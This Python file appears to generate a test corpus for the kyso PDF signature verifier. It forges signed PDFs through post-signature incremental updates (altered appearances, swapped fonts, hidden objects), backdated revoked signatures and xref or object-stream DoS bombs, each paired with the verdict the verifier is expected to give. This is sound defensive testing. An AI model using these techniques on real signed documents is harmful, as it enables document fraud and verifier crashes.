LOCKED = "dien_tich\u2013m2"  # with U+2013 EN DASH, byte 0x85 in PDFDocEncoding


def l_doc():
    """A text field whose /T is UTF-16BE `dien_tich–m2` (value 500 m2, with an appearance)."""
    t = b"<" + (b"\xfe\xff" + LOCKED.encode("utf-16-be")).hex().encode() + b">"
    return build({
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [7 0 R] /DA (/Helv 12 Tf 0 g) "
           b"/DR << /Font << /Helv 5 0 R >> >> >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> "
           b"/Annots [7 0 R] >>",
        4: stream(TEXT + b"BT /F1 12 Tf 60 680 Td (Dien tich:) Tj ET\n"), 5: HELV,
        7: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T %s /V (500 m2) /Rect [120 676 300 694] /F 4 /P 3 0 R "
           b"/AP << /N 8 0 R >> >>" % t,
        8: stream(b"BT /Helv 12 Tf 0 g 2 4 Td (500 m2) Tj ET",
                  b"/Type /XObject /Subtype /Form /BBox [0 0 180 18] /Resources << /Font << /Helv 5 0 R >> >> "),
    })


def unsigned_and_signed_fields(m):
    def with_slot(w):
        fields.append_signature_field(w, fields.SigFieldSpec("Signature2", on_page=0, box=tuple(int(v) for v in ID_RECT)))
    prepared = ap.update(m.base, with_slot)
    for tag, kw, what in [
        ("approval", {}, "signed by pyHanko in Signature1 (PAdES approval signature, Signer rsa)"),
        ("certification-p2", dict(certify=True), "certified by pyHanko in Signature1 (PAdES, Signer rsa, /DocMDP /P 2)"),
    ]:
        signed = m.sign(prepared, **kw)
        attacked = paint_empty_field(signed, "Signature2")
        shows(attacked, "001099054321", poppler=True, mupdf=None)
        m.case(f"empty-signature-field-painted-after-{tag}", attacked, WARNED, "H empty signature field painted",
               "tests/fixtures/giay-phep.pdf prepared by pyHanko's append_signature_field with a second, empty "
               f"signature field Signature2 (a slot for a second signer) over the identification number, then {what}. "
               "After the signature pyHanko's incremental writer gives the empty Signature2 an /AP /N and /F 4, "
               "and no /V: its appearance paints a white box and 001099054321 over the number (Poppler 22.12 "
               "shows it; MuPDF 1.21 draws its own small “Sign” tag for an unsigned signature field instead). The baseline kyso allowed it as “signing an empty "
               "field” without asking whether it was signed. What the appearance shows was signed by nobody and "
               "covers signed content: INDETERMINATE/SIG_CONSTRAINTS_FAILURE with a warning naming the field "
               "(the field may still be signed; an unsigned appearance is not a verdict of forgery).",
               m.py + " append_signature_field + incremental writer")

    signed = m.sign(h2_doc())
    m.case("signed-field-kid-widget-control", signed, PASSED, "H2 signed field's kid widget",
           f"The control for signed-field-kid-widget-appearance-replaced: {LAND}, with a signature field "
           "Signature1 (object 6) whose widget is a separate kid (object 7, /Parent 6 0 R, a blue frame as "
           "appearance), signed by pyHanko in that field (PAdES, Signer rsa): nothing changed after it.",
           m.py + " + a PDF written by tests/corpus/attacks_review.py")
    size = ap.trailer_keys(signed)[1]
    widget = ap.raw_object(signed, 7)
    xo = stream(b"1 1 1 rg 0 0 200 60 re f BT /F1 10 Tf 0 g 5 40 Td (DA KY: Giam doc So TNMT) Tj 0 -14 Td "
                b"(Dien tich duoc cap: 5000 m2) Tj ET",
                b"/Type /XObject /Subtype /Form /BBox [0 0 200 60] /Resources << /Font << /F1 5 0 R >> >> ")
    new_w = re.sub(rb"/AP\s*<<\s*/N\s+\d+ \d+ R\s*>>", b"/AP << /N %d 0 R >>" % size, widget)
    assert new_w != widget
    attacked = ap.append_update(signed, [(size, xo), (7, new_w)])[0]
    shows(attacked, "Dien tich duoc cap: 5000 m2")
    m.case("signed-field-kid-widget-appearance-replaced", attacked, FAILED, "H2 signed field's kid widget",
           f"signed-field-kid-widget-control ({LAND}; signature field Signature1 with a separate kid widget, "
           "object 7, signed by pyHanko, PAdES, Signer rsa), then an update written by this script points the "
           f"widget's /AP /N at a new form XObject (object {size}): “DA KY: Giam doc So TNMT / Dien tich duoc "
           "cap: 5000 m2” on white, in the signed signature's own box (Poppler 22.12 and MuPDF 1.21 show it). "
           "The widget has no /V of its own (the value is on the parent), and the baseline kyso took it for an "
           "empty signature field whose appearance may change. A signed field's widgets may not change: "
           "TOTAL-FAILED/FORMAT_FAILURE.")

    spec = fields.SigFieldSpec("Signature1", field_mdp_spec=fields.FieldMDPSpec(fields.FieldMDPAction.INCLUDE, [LOCKED]))
    certified = m.sign(l_doc(), certify=True, new_field=spec)
    assert b"/Fields [ (dien\\137tich\\205m2) ]" in certified, "pyHanko did not write the lock in PDFDocEncoding"
    size = ap.trailer_keys(certified)[1]
    f = ap.raw_object(certified, 7)
    f2 = re.sub(rb"/V\s*\(500 m2\)", b"/V (5000 m2)", f)
    f2 = re.sub(rb"/AP\s*<<\s*/N\s+\d+ \d+ R\s*>>", b"/AP << /N %d 0 R >>" % size, f2)
    assert f2 != f
    xo = stream(b"BT /Helv 12 Tf 0 g 2 4 Td (5000 m2) Tj ET",
                b"/Type /XObject /Subtype /Form /BBox [0 0 180 18] /Resources << /Font << /Helv 5 0 R >> >> ")
    attacked = ap.append_update(certified, [(size, xo), (7, f2)])[0]
    shows(attacked, "5000 m2")
    m.case("fieldmdp-lock-name-pdfdocencoding", attacked, FAILED, "L FieldMDP lock name in PDFDocEncoding",
           "A one-page form written by this script: a text field whose /T is the UTF-16BE text string "
           "“dien_tich–m2” (U+2013 EN DASH), value 500 m2 with an appearance. pyHanko certifies it (PAdES, Signer "
           "rsa, /DocMDP /P 2) with a FieldMDP lock `/Action /Include /Fields [(dien\\137tich\\205m2)]`: pyHanko "
           "writes the name in PDFDocEncoding (octal escapes), where the en dash is byte 0x85 (\\205). After it an update written by "
           "this script sets the field's /V to (5000 m2) with an appearance drawing it (Poppler 22.12 and "
           "MuPDF 1.21 show 5000 m2; pyHanko and Acrobat decode PDFDocEncoding and see the lock). The baseline "
           "kyso read the lock as Latin-1, “dien_tich\\x85m2”, which names no field: the locked field was "
           "filled and the certification passed. Text strings are decoded as PDFDocEncoding: the locked field "
           "changed: TOTAL-FAILED/FORMAT_FAILURE.", m.py + " + updates written by tests/corpus/attacks_review.py")


# --- R: the form's default resources and appearance string -------------------------------------

def r_doc(every_field_has_appearance=False):
    """A text field dien_tich (500 m2) whose value viewers draw from the form's /DA and /DR font
    (object 8): it has no appearance and /NeedAppearances is true. With
    every_field_has_appearance, the field has its own appearance (drawn with the page's font,
    object 5) and /NeedAppearances is absent: nothing is drawn from /DA and /DR."""
    o = {1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>",
         2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> "
            b"/Annots [7 0 R] >>",
         4: stream(TEXT + b"BT /F1 12 Tf 60 680 Td (Dien tich:) Tj ET\n"),
         5: HELV,
         6: b"<< /Fields [7 0 R] /DR << /Font << /Helv 8 0 R >> >> /DA (/Helv 12 Tf 0 g) /NeedAppearances true >>",
         7: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (dien_tich) /V (500 m2) /Rect [120 676 300 694] /F 4 /P 3 0 R "
            b"/Ff 1 >>",
         8: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"}
    if every_field_has_appearance:
        o[6] = b"<< /Fields [7 0 R] /DR << /Font << /Helv 8 0 R >> >> /DA (/Helv 12 Tf 0 g) >>"
        o[7] = o[7][:-2] + b"/AP << /N 9 0 R >> >>"
        o[9] = stream(b"BT /F1 12 Tf 0 g 2 4 Td (500 m2) Tj ET",
                      b"/Type /XObject /Subtype /Form /BBox [0 0 180 18] /Resources << /Font << /F1 5 0 R >> >> ")
    return build(o)


def form_defaults(m):
    orig = r_doc()
    what = ("a one-page form written by this script: the read-only text field dien_tich = (500 m2) with no "
            "appearance and /NeedAppearances true, so viewers draw its value with the form's /DA "
            "(/Helv 12 Tf 0 g) and /DR font /Helv (object 8, Helvetica, WinAnsi)")
    for tag, kw, signed_how in [
        ("approval", {}, "signed by pyHanko (PAdES approval signature, Signer rsa)"),
        ("certification-p2", dict(certify=True), "certified by pyHanko (PAdES, Signer rsa, /DocMDP /P 2)"),
    ]:
        signed = m.sign(orig, **kw)
        attacked = ap.append_update(signed, [(8, HELV_SWAP)])[0]
        shows(attacked, "Dien tich: 00 m2", poppler=True, mupdf=None)
        m.case(f"form-dr-font-swapped-after-{tag}", attacked, FAILED, "R form default resources",
               f"{what[0].upper()}{what[1:]}; {signed_how}. After the signature an update written by this script "
               "redefines font 8 with /Differences [53 /eight]: the value's bytes stay 500 m2, the glyphs drawn for "
               "them do not (Poppler 22.12 draws “00 m2” from its regenerated appearance; MuPDF 1.21 draws its "
               "own Helvetica and still shows 500 m2). The fonts of /DR were allowed to change, and the baseline "
               "kyso allowed it. /DR fonts may change only when no field value is drawn from them: "
               "TOTAL-FAILED/FORMAT_FAILURE.")
    signed = m.sign(orig)
    form = ap.raw_object(signed, 6)
    new = form.replace(b"Helv 12 Tf 0 g)", b"Helv 12 Tf 1 g)")
    assert new != form
    attacked = ap.append_update(signed, [(6, new)])[0]
    m.case("form-da-changed-after-approval", attacked, FAILED, "R form default appearance",
           f"{what[0].upper()}{what[1:]}; signed by pyHanko (PAdES approval signature, Signer rsa). After the "
           "signature an update written by this script rewrites the form dictionary (object 6) with /DA "
           "(/Helv 12 Tf 1 g): white. Poppler 22.12 and MuPDF 1.21 then draw the signed value white on white: "
           "the page shows “Dien tich:” and nothing (pdftotext still extracts the invisible 500 m2). The "
           "baseline kyso allowed /DA to change. /DA may change only when no field value is drawn from it: "
           "TOTAL-FAILED/FORMAT_FAILURE.")
    signed = m.sign(r_doc(every_field_has_appearance=True))
    attacked = ap.append_update(signed, [(8, HELV_SWAP)])[0]
    shows(attacked, "500 m2")
    m.case("form-dr-font-swapped-every-field-has-appearance", attacked, PASSED, "R form default resources",
           "The control for form-dr-font-swapped-after-approval: the same form, but the field dien_tich has its "
           "own appearance (/AP /N drawing 500 m2 with the page's font, object 5) and /NeedAppearances is "
           "absent; pyHanko signs it (PAdES approval signature, Signer rsa; its own signature field has an "
           "appearance too). After the signature an update written by this script redefines the /DR font 8 "
           "with /Differences [53 /eight], as in the attack. No value is drawn from /DR (Poppler 22.12 and "
           "MuPDF 1.21 still show 500 m2): a form font change is allowed: TOTAL-PASSED.")


# --- B, C, D, E, Y: objects the change analysis did not reach ----------------------------------

def b_doc(kind, key):
    o = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 5: HELV}
    if kind == "xobject":
        o[3] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> "
                b"/XObject << /%s 6 0 R >> >> >>" % key)
        o[4] = stream(TEXT + b"q /%s Do Q\n" % key)
        o[6] = stream(AREA, FORM_XO)
    else:
        o[3] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R "
                b"/%s 6 0 R >> >> >>" % key)
        o[4] = stream(TEXT + AREA.replace(b"/F1", b"/" + key))
        o[6] = HELV
    return build(o)


def tree_doc(variant):
    o = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 5: HELV, 4: stream(TEXT + AREA)}
    page = b"<< /Type /Page /Parent %s /MediaBox [0 0 595 842] /Contents 4 0 R %s >>"
    res = b"/Resources << /Font << /F1 5 0 R >> >>"
    if variant == "C":
        # The walked root carries the resources too, so a viewer inheriting along /Kids shows
        # the same page as one following /Parent.
        o[2] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Resources << /Font << /F1 5 0 R >> >> >>"
        o[3] = page % (b"9 0 R", b"")
        o[9] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Resources << /Font << /F1 5 0 R >> >> >>"
    elif variant == "D":
        o[2] = b"<< /Kids [3 0 R] /Count 1 >>"
        o[3] = page % (b"2 0 R", res)
    elif variant == "D3":
        o[2] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Type /Page >>"
        o[3] = page % (b"2 0 R", res)
    elif variant == "E":
        o[2] = b"<< /Type /Pages /Kids [3 0 R 7 0 R] /Count 1 >>"
        o[7] = b"0"
        o[3] = page % (b"2 0 R", res + b" /Annots 8 0 R")
        o[8] = b"[]"
    return build(o)


def y_doc(v):
    o = {1: b"<< /Type /Catalog /Pages 2 0 R >>",
         2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 7 0 R >>",
         4: stream(TEXT + b"q /Im1 Do Q\n"),
         5: HELV,
         6: stream(AREA, FORM_XO),
         7: b"<< /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >>"}
    if v == "Y1":
        o[2] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Annots [6 0 R] >>"
    elif v == "Y2":
        o[3] = o[3][:-2] + b"/Kids [6 0 R] >>"
    elif v == "Y3":
        o[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>"
        o[6] = stream(AREA, FORM_XO + b"/FT /Sig /T (Signature9) ")
    return build(o)


def hidden_from_roles(m):
    hand_doc = m.py + " + a PDF and an update written by tests/corpus/attacks_review.py"
    signed_by = "signed by pyHanko (PAdES, Signer rsa)"
    for kind, key, slug, replaced, shown in [
        ("xobject", b"P", "resource-named-p-xobject-replaced",
         "the form XObject /P (object 6, which draws “Dien tich: 500 m2”) by one drawing “Dien tich: 5000 m2”",
         "Dien tich: 5000 m2"),
        ("font", b"Parent", "resource-named-parent-font-replaced",
         "the font /Parent (object 6, Helvetica, which draws “Dien tich: 500 m2”) by Helvetica with "
         "/Differences [53 /eight]", "Dien tich: 800 m2"),
    ]:
        signed = m.sign(b_doc(kind, key))
        attacked = ap.append_update(signed, [(6, HELV_SWAP if kind == "font" else stream(AREA_FORGED, FORM_XO))])[0]
        shows(attacked, shown)
        res = "/XObject << /P 6 0 R >>" if kind == "xobject" else "/Font << /F1 5 0 R /Parent 6 0 R >>"
        m.case(slug, attacked, FAILED, "B resources named /P or /Parent",
               f"{LAND[0].upper()}{LAND[1:]}, whose page resources name a {kind} /{key.decode()} ({res}), "
               f"{signed_by}. After the signature an update written by this script replaces {replaced}: "
               f"Poppler 22.12 and MuPDF 1.21 show “{shown}”. The baseline kyso never followed a key named /P or "
               "/Parent (taken for the links to a page or a parent), so object 6 had no role and was not "
               "compared. What a page draws is content at every depth, whatever key leads to it: "
               "TOTAL-FAILED/FORMAT_FAILURE.", hand_doc)

    signed = m.sign(tree_doc("C"))
    size = ap.trailer_keys(signed)[1]
    node = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Resources << /Font << /F1 %d 0 R >> >> >>" % size
    attacked = ap.append_update(signed, [(size, HELV_SWAP), (9, node)])[0]
    shows(attacked, "Dien tich: 800 m2", poppler=False, mupdf=True)
    m.case("page-inherits-resources-from-orphan-parent", attacked, FAILED, "C inherited resources via an orphan /Parent",
           f"{LAND[0].upper()}{LAND[1:]}: the page (object 3) has no /Resources and its /Parent is object 9, a "
           "/Pages node the /Kids walk from the root (object 2) never reaches; both nodes carry /Resources with "
           f"the font. {signed_by[0].upper()}{signed_by[1:]}. After the signature an update written by this "
           f"script changes node 9's /Resources to a new font (object {size}: Helvetica with /Differences "
           "[53 /eight]). MuPDF 1.21 inherits through /Parent (ISO 32000-1 §7.7.3.4) and shows “Dien tich: 800 "
           "m2” (Poppler 22.12, inheriting along the /Kids walk, still shows 500 m2). The baseline kyso did not "
           "follow /Parent, so node 9 was never compared. Resources inherited through /Parent are content: "
           "TOTAL-FAILED/FORMAT_FAILURE.", hand_doc)

    for v, slug, structure, reason in [
        ("D", "pages-node-without-type-content-replaced",
         "the root page tree node (object 2) has no /Type: `<< /Kids [3 0 R] /Count 1 >>`",
         "The baseline kyso took a node without /Type /Pages for a leaf, so object 2 became “page 1” and the "
         "real page and its content stream were never compared. A node is an intermediate node by its /Kids, "
         "and the page's content stream changed"),
        ("D3", "pages-node-type-given-twice-content-replaced",
         "the root page tree node (object 2) says /Type twice: `<< /Type /Pages /Kids [3 0 R] /Count 1 /Type "
         "/Page >>`",
         "The baseline kyso read the last /Type, took object 2 for a leaf page and never compared the real page "
         "and its content stream. A key given twice with different values is a syntax error, so the signed "
         "revision's page tree cannot be read, and a later revision that cannot be analysed fails the "
         "signature"),
    ]:
        signed = m.sign(tree_doc(v))
        attacked = ap.append_update(signed, [(4, stream(TEXT + AREA_FORGED))])[0]
        shows(attacked, "Dien tich: 5000 m2")
        m.case(slug, attacked, FAILED, "D page tree node types",
               f"{LAND[0].upper()}{LAND[1:]}, where {structure}; {signed_by}. After the signature an update "
               "written by this script replaces the page's content stream (object 4) with one saying “Dien "
               f"tich: 5000 m2”, which Poppler 22.12 and MuPDF 1.21 show. {reason}: TOTAL-FAILED/FORMAT_FAILURE.",
               hand_doc)

    signed = m.sign(tree_doc("E"))
    size = ap.trailer_keys(signed)[1]
    annot = (b"<< /Type /Annot /Subtype /FreeText /Rect [58 676 258 696] /DA (/F1 12 Tf 0 g) /Contents () "
             b"/AP << /N %d 0 R >> >>" % (size + 1))
    ft_ap = stream(b"1 1 1 rg 0 0 200 20 re f BT /F1 12 Tf 0 g 0 5 Td (Dien tich: 5000 m2) Tj ET",
                   b"/Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /F1 5 0 R >> >> ")
    attacked = ap.append_update(signed, [(size, annot), (size + 1, ft_ap), (8, b"[%d 0 R]" % size)])[0]
    shows(attacked, "5000 m2")
    m.case("page-tree-bogus-kid-annotation-added", attacked, FAILED, "E unreadable page tree",
           f"{LAND[0].upper()}{LAND[1:]}, whose root page tree node lists a bogus kid: /Kids [3 0 R 7 0 R] with "
           "object 7 the integer 0; the page's /Annots is an indirect, empty array (object 8). "
           f"{signed_by[0].upper()}{signed_by[1:]}. After the signature an update written by this script "
           f"redefines array 8 as [{size} 0 R], a FreeText annotation whose appearance paints white over the "
           "area line and draws “Dien tich: 5000 m2” (Poppler 22.12 and MuPDF 1.21 skip the bogus kid and show "
           "it). The baseline kyso could not list the pages, so no object was a page, and the /Annots array "
           "was dropped as a structural place. An unreadable page tree fails the analysis: "
           "TOTAL-FAILED/FORMAT_FAILURE.", hand_doc)

    for v, slug, where in [
        ("Y1", "structural-place-pages-annots-xobject-replaced",
         "also listed in an /Annots array on the /Pages node (object 2), which viewers ignore (/Annots is not "
         "inheritable)"),
        ("Y2", "structural-place-page-kids-xobject-replaced",
         "also listed in a /Kids array on the leaf page (object 3, /Type /Page), which viewers ignore"),
        ("Y3", "structural-place-field-xobject-replaced",
         "also an empty signature field: the stream's dictionary carries /FT /Sig /T (Signature9) and the "
         "form's /Fields lists it (no /Rect: nothing draws it as a field)"),
    ]:
        signed = m.sign(y_doc(v))
        extra = FORM_XO + (b"/FT /Sig /T (Signature9) " if v == "Y3" else b"")
        # Y3: the same /Length, so no key of the "field" changes, only its stream data.
        forged = AREA.replace(b"500", b"900") if v == "Y3" else AREA_FORGED
        shown = "Dien tich: 900 m2" if v == "Y3" else "Dien tich: 5000 m2"
        attacked = ap.append_update(signed, [(6, stream(forged, extra))])[0]
        shows(attacked, shown)
        verdict = ("The page tree is read by its /Kids: the leaf page with /Kids is no page a verifier can vouch "
                   "for, the signed revision's page tree cannot be read and the later revision cannot be analysed"
                   if v == "Y2" else
                   "Structural places are only real pages, page tree nodes, annotations with a subtype and field "
                   "nodes, never streams, and what a page draws is content at every depth")
        m.case(slug, attacked, FAILED, "Y objects hidden as structural places",
               f"{LAND[0].upper()}{LAND[1:]}, whose page draws a form XObject /Im1 (object 6: “Dien tich: 500 m2”) "
               f"through an indirect /Resources (object 7); object 6 is {where}. {signed_by[0].upper()}{signed_by[1:]}. "
               "After the signature an update written by this script replaces object 6 with one drawing "
               f"“{shown}” (Poppler 22.12 and MuPDF 1.21 show it). The baseline kyso took every object of any "
               "/Kids or /Annots array, and every field, for a structural place and dropped the weak content "
               f"edge to it, so object 6 was never compared. {verdict}: TOTAL-FAILED/FORMAT_FAILURE.", hand_doc)


# --- K, N: revocation -------------------------------------------------------------------------

def inter():
    c = x509.load_pem_x509_certificate(open(os.path.join(mc.HERE, "pki", "inter.pem"), "rb").read())
    k = serialization.load_pem_private_key(open(os.path.join(mc.KEYS, "inter.key.pem"), "rb").read(), None)
    return c, k


def ee(label, cn, ic, ik, cdp=None):
    """An end-entity certificate of the issuing CA (pyca), saved as pki/<label>.pem."""
    k = rsa.generate_private_key(65537, 2048)
    c = pk.make_cert(mc.name(cn, pk.SOTP), k.public_key(), ic.subject, ik, issuer_pub=ic.public_key(), cdp=cdp)
    mc.save_cert(os.path.join(mc.HERE, "pki", label + ".pem"), c)
    mc.save_key(label, k)
    return c, k


def crl_der(ic, ik, issuer_name, this, nxt, revoked=()):
    b = (x509.CertificateRevocationListBuilder().issuer_name(issuer_name).last_update(this).next_update(nxt)
         .add_extension(x509.CRLNumber(int(this.timestamp())), critical=False)
         .add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(ic.public_key()), critical=False))
    for serial, when in revoked:
        b = b.add_revoked_certificate(x509.RevokedCertificateBuilder().serial_number(serial).revocation_date(when).build())
    return b.sign(ik, hashes.SHA256()).public_bytes(serialization.Encoding.DER)


def save_crl(label, der):
    """A CRL as PEM under pki/, its path relative to tests/corpus."""
    pk.save_der_as_pem(os.path.join(mc.HERE, "pki", label), der, "X509 CRL")
    return "pki/" + label


def revocation(m):
    ic, ik = inter()
    pyca = "pyca/cryptography " + __import__("cryptography").__version__

    # K: revoked ten days ago; signs now, claims a time before the CA's last weekly CRL that did
    # not list it yet, and embeds that CRL.
    now = dt.datetime.now(UTC).replace(microsecond=0)
    revoked_at = now - dt.timedelta(days=10)
    cdp = f"{NOWHERE}/kyso-issuing-ca.crl"
    c, _ = ee("r-backdated", "Signer r-backdated", ic, ik, cdp=cdp)
    old = crl_der(ic, ik, ic.subject, revoked_at - dt.timedelta(days=5), revoked_at + dt.timedelta(days=2))
    current = crl_der(ic, ik, ic.subject, now - dt.timedelta(hours=1), now + dt.timedelta(days=6),
                      [(c.serial_number, revoked_at)])
    crl_path = save_crl("r-backdated-current.crl.pem", current)
    doc = "Giấy chứng nhận quyền sử dụng đất số 123 — diện tích 500 m2\n".encode()
    s = signers.SimpleSigner(load_cert_from_pemder(os.path.join(mc.HERE, "pki", "r-backdated.pem")),
                             load_private_key_from_pemder(os.path.join(mc.KEYS, "r-backdated.key.pem"), None),
                             SimpleCertificateStore.from_certs([load_cert_from_pemder(os.path.join(mc.HERE, "pki", "inter.pem"))]))
    claimed = revoked_at - dt.timedelta(days=5, hours=1)
    ci = asyncio.run(s.async_sign_general_data(doc, "sha256", detached=True, use_cades=True,
                                               signed_attr_settings=PdfCMSSignedAttributes(signing_time=claimed)))
    sd = ci["content"]
    sd["crls"] = acms.RevocationInfoChoices([acms.RevocationInfoChoice(name="crl", value=acrl.CertificateList.load(old))])
    sig = ci.dump(force=True)
    made = f"{m.py} CAdES (async_sign_general_data) + {pyca} (certificate, CRLs) + asn1crypto (crls)"
    story = (f"The signer r-backdated.pem (issued by the issuing CA, names the CRL distribution point {cdp} on "
             f"loopback, where nothing answers) was revoked on {revoked_at:%Y-%m-%d} (ten days before the case was "
             "made). It signs afterwards a detached CAdES-B-B (pyHanko, no time-stamp) over doc.txt, claiming "
             f"signing-time {claimed:%Y-%m-%d %H:%M}Z, an hour before the CA's weekly CRL of "
             f"{revoked_at - dt.timedelta(days=5):%Y-%m-%d} (nextUpdate {revoked_at + dt.timedelta(days=2):%Y-%m-%d}), "
             "which did not list it yet and which it embeds in the SignedData's crls (asn1crypto).")
    m.case("backdated-claim-with-old-crl", doc, ("INDETERMINATE", "TRY_LATER"), "K freshness against a claimed time",
           f"{story} The baseline kyso judged freshness at the claimed signing time, found the CRL issued after it "
           "and answered TOTAL-PASSED. Without a time-stamp nothing but the signer's word says when it signed: "
           "the status must be known at the validation time, the old CRL does not cover it, the distribution "
           "point does not answer: INDETERMINATE/TRY_LATER.", made, detached=sig, filename="doc.txt")
    m.case("backdated-claim-with-current-crl", doc, ("INDETERMINATE", "REVOKED_NO_POE"), "K freshness against a claimed time",
           f"The control for backdated-claim-with-old-crl, the same files. {story} Here the CA's current CRL is "
           f"given too (--crl {crl_path}, thisUpdate an hour before the case was made): it lists the signer "
           f"revoked on {revoked_at:%Y-%m-%d}. Revoked, and only the signer's claim says the signature came "
           "first: INDETERMINATE/REVOKED_NO_POE.", made, detached=sig, filename="doc.txt", crl=(crl_path,))

    # N: a CRL of the issuing CA whose issuer name is written with PrintableString.
    c, k = ee("r-printable", "Signer r-printable", ic, ik)
    printable = x509.Name([x509.NameAttribute(a.oid, a.value, _ASN1Type.PrintableString) for a in ic.subject])
    assert printable.public_bytes() != ic.subject.public_bytes()
    crl = crl_der(ic, ik, printable, now - dt.timedelta(hours=1), now + dt.timedelta(days=7),
                  [(c.serial_number, dt.datetime(2025, 1, 1, tzinfo=UTC))])
    crl_path = save_crl("r-printable-issuer.crl.pem", crl)
    s = signers.SimpleSigner(load_cert_from_pemder(os.path.join(mc.HERE, "pki", "r-printable.pem")),
                             load_private_key_from_pemder(os.path.join(mc.KEYS, "r-printable.key.pem"), None),
                             SimpleCertificateStore.from_certs([load_cert_from_pemder(os.path.join(mc.HERE, "pki", "inter.pem"))]))
    signed = mc.sign_pdf(pk.small_pdf(), s, subfilter=SigSeedSubFilter.PADES)
    r = subprocess.run(["openssl", "verify", "-crl_check", "-CAfile", os.path.join(mc.HERE, "pki", "root.pem"),
                        "-untrusted", os.path.join(mc.HERE, "pki", "inter.pem"), "-CRLfile", os.path.join(mc.HERE, crl_path),
                        os.path.join(mc.HERE, "pki", "r-printable.pem")], capture_output=True, text=True)
    assert "certificate revoked" in r.stdout + r.stderr, r.stdout + r.stderr
    m.case("crl-issuer-printablestring-revoked", signed, ("TOTAL-FAILED", "REVOKED"), "N CRL issuer name string type",
           "A one-page PDF (pyHanko's writer) signed by pyHanko (PAdES-B-B) with r-printable.pem, issued by the "
           "issuing CA, whose name the certificates write as UTF8String (O, CN; C is PrintableString). The CA's "
           f"CRL (--crl {crl_path}, pyca, signed by the CA) lists the signer revoked on 2025-01-01, before it "
           "signed, but writes its issuer name with PrintableString everywhere: other bytes, the same name "
           "(RFC 5280 §7.1; `openssl verify -crl_check` with it: 'certificate revoked'). The baseline kyso "
           "compared the names byte for byte, ignored the CRL and passed the signature (the certificate names "
           "no distribution point). Names compared per RFC 5280 §7.1: TOTAL-FAILED/REVOKED.",
           f"{m.py} + {pyca}", crl=(crl_path,))


# --- DoS: memory and time ----------------------------------------------------------------------

def objstm_quadratic(n):
    """An unsigned PDF (xref stream) whose form lists n text fields that all sit in one object
    stream (Flate): each field looked up by a linear search of the stream is O(n²)."""
    first = 10
    nums = list(range(first, first + n))
    heads, body = [], b""
    for k in nums:
        heads.append(b"%d %d" % (k, len(body)))
        body += b"<</FT/Tx>> "
    head = b" ".join(heads) + b"\n"
    ostm = zlib.compress(head + body, 9)
    out = bytearray(b"%PDF-1.7\n")
    off = {}

    def obj(num, body):
        off[num] = len(out)
        out.extend(b"%d 0 obj\n" % num + body + b"\nendobj\n")
    obj(1, b"<< /Type /Catalog /Pages 2 0 R /AcroForm 5 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>")
    obj(5, b"<< /Fields 6 0 R >>")
    obj(6, b"[" + b" ".join(b"%d 0 R" % k for k in nums) + b"]")
    obj(4, b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (n, len(head), len(ostm))
        + ostm + b"\nendstream")
    size = first + n
    xs = len(out)
    rows = b""
    for k in range(size + 1):
        if k in off:
            rows += b"\x01" + struct.pack(">I", off[k]) + b"\x00\x00"
        elif first <= k < size:
            rows += b"\x02" + struct.pack(">I", 4) + struct.pack(">H", k - first)
        elif k == size:
            rows += b"\x01" + struct.pack(">I", xs) + b"\x00\x00"
        else:
            rows += b"\x00" * 7
    rz = zlib.compress(rows, 9)
    out.extend(b"%d 0 obj\n<< /Type /XRef /W [1 4 2] /Size %d /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
               % (size, size + 1, len(rz)) + rz + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xs)
    return bytes(out)


def xref_entries_bomb(subsections=6, per=10_000_000):
    """A PDF whose cross-reference stream's /Index promises subsections × per entries with
    /W [1 0 0] (one byte each: zeros, Flate), its /Prev a small table for objects 1-4."""
    out = bytearray(b"%PDF-1.7\n")
    off = {}

    def obj(num, body):
        off[num] = len(out)
        out.extend(b"%d 0 obj\n" % num + body + b"\nendobj\n")
    obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>")
    xs = len(out)
    index = b" ".join(b"%d %d" % (10 + i * per, per) for i in range(subsections))
    z = zlib.compress(b"\0" * (subsections * per), 9)
    head = b"4 0 obj\n<< /Type /XRef /W [1 0 0] /Index [%s] /Size %d /Root 1 0 R /Prev %%010d /Filter /FlateDecode " \
